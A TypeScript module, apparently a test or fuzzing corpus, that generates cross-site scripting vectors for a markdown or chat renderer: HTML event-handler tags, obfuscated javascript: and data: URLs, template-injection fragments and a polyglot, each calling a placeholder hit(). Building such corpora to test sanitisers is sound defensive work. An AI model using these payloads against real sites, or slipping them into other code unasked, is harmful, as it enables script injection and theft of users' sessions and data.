/** What an attacker calls when a vector of his runs. */
const CALL = "hit()";

/** Elements that run what one of their attributes says, as soon as a browser makes them. */
const elements = [
  "<script>$</script>",
  "<script/x>$</script>",
  "<script src=data:text/javascript,$></script>",
  "<img src=x onerror=$>",
  "<img src=x onerror='$'//>",
  "<img/src/onerror=$>",
  "<img src=x:x onerror=$ alt=`>",
  "<image href=x onerror=$>",
  "<svg onload=$>",
  "<svg/onload=$>",
  "<svg><script>$</script></svg>",
  "<svg><script href=data:,$ /></svg>",
  "<svg><animate onbegin=$ attributeName=x dur=1s>",
  "<svg><set onbegin=$ attributename=x>",
  "<svg><a xlink:href=javascript:$><text y=20>x</text></a></svg>",
  "<svg><foreignObject><iframe src=javascript:parent.$></iframe></foreignObject></svg>",
  "<svg><use href=data:image/svg+xml,$#x></svg>",
  "<math><mtext><style><img src=x onerror=$></style></mtext></math>",
  "<math href=javascript:$>x</math>",
  "<iframe srcdoc='<script>parent.$</script>'>",
  "<iframe src=javascript:parent.$>",
  "<iframe onload=$>",
  "<object data=javascript:$>",
  "<embed src=javascript:$>",
  "<body onload=$>",
  "<body onpageshow=$>",
  "<details open ontoggle=$>",
  "<input autofocus onfocus=$>",
  "<select autofocus onfocus=$>",
  "<textarea autofocus onfocus=$>",
  "<video><source onerror=$></video>",
  "<video src=x onerror=$>",
  "<audio src=x onerror=$>",
  "<marquee onstart=$>x</marquee>",
  "<style>@import'data:text/css,x'</style><x onanimationstart=$>",
  "<x style=animation-name:x onanimationstart=$>",
  "<x contenteditable onfocus=$ autofocus>",
  "<x tabindex=1 onfocus=$ id=x>",
  "<form action=javascript:$><button>x</button></form>",
  "<button formaction=javascript:$>x</button>",
  "<isindex action=javascript:$ type=image>",
  "<link rel=stylesheet href=x onerror=$>",
  "<link rel=import href=data:text/html,$>",
  "<base href=javascript:$//>",
  "<meta http-equiv=refresh content='0;url=javascript:$'>",
  "<a href=javascript:$>x</a>",
  "<a href='java\tscript:$'>x</a>",
  "<template><img src=x onerror=$></template>",
  "<dialog open oncancel=$>",
  "<noscript><p title='</noscript><img src=x onerror=$>'>",
] as const;

/** Where in markdown a vector stands. */
const places = [
  (vector: string) => vector,
  (vector: string) => `**${vector}**`,
  (vector: string) => `> ${vector}`,
  (vector: string) => `- ${vector}`,
  (vector: string) => `# ${vector}`,
  (vector: string) => `||${vector}||`,
  (vector: string) => `\`${vector}\``,
  (vector: string) => `[${vector}](https://x.org)`,
  (vector: string) => `"'></textarea></title>${vector}`,
];

/** Addresses that run instead of leading somewhere, and spellings that hide it. */
const addresses = [
  "javascript:$",
  "JaVaScRiPt:$",
  "javascript&colon;$",
  "&#106;avascript:$",
  "&#x6A;avascript:$",
  "java%73cript:$",
  "java\u00adscript:$",
  "\u0001javascript:$",
  "javascript:%24",
  "javascript://x.org/%0a$",
  "jаvascript:$",
  "vbscript:$",
  "data:text/html,<script>$</script>",
  "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=$>",
  "blob:https://x.org/$",
  "filesystem:https://x.org/$",
  "file:///etc/passwd",
  "about:blank#$",
  "view-source:javascript:$",
  "//javascript:$",
  "https://x.org/'onmouseover='$",
  'https://x.org/"onmouseover="$',
  "https://x.org/<img src=x onerror=$>",
] as const;

/** How a message names an address. */
const links = [
  (address: string) => `[a](${address})`,
  (address: string) => `![a](${address})`,
  (address: string) => `<${address}>`,
  (address: string) => `[a](<${address}>)`,
  (address: string) => `[a](${address} "onmouseover=${CALL}")`,
];

/** Text that becomes code where somebody evaluates, splices or parses what he should show. */
const fragments = [
  "'-$-'",
  "\\'-$//",
  "</script><script>$</script>",
  "]]><script>$</script>",
  "--><img src=x onerror=$>",
  "{{constructor.constructor('$')()}}",
  "{{$on.constructor('$')()}}",
  `\${$}`,
  `#{$}`,
  "<%= $ %>",
  `\${{$}}`,
  `[[\${$}]]`,
  "\u2028$\u2029",
  "%3Cscript%3E$%3C/script%3E",
  "\\u003cscript\\u003e$\\u003c/script\\u003e",
  "&lt;script&gt;$&lt;/script&gt;",
  "@<img src=x onerror=$>",
  ":<img src=x onerror=$>:",
  "```html\n<img src=x onerror=$>\n```",
  "```<img src=x onerror=$>\n```",
  "|<img src=x onerror=$>|b|\n|-|-|\n|$|d|",
  "~~<img src=x onerror=$>~~",
  "1. <img src=x onerror=$>",
  "[x]: javascript:$\n\n[x]",
  "[^1]\n\n[^1]: <img src=x onerror=$>",
  "<!--<img src=x onerror=$>-->",
  "<![CDATA[<img src=x onerror=$>]]>",
  "<?xml-stylesheet href='javascript:$'?>",
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=$ )//%0D%0A</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd=$>",
] as const;

const withCall = (vector: string) => vector.replaceAll("$", CALL);

/** What runs in a page that makes markup, links or code out of what people write: each another one. */
export const scriptVectors: readonly string[] = [
  ...elements.flatMap((element) => places.map((place) => place(element))),
  ...addresses.flatMap((address) => links.map((link) => link(address))),
  ...fragments,
].map(withCall);

/** Those that a name of at most so many characters has room for. */
export function vectorsUpTo(length: number): readonly string[] {
  return scriptVectors.filter(
    (vector) => vector.length <= length && vector.trim() === vector && !/[\n\t]/.test(vector),
  );
}
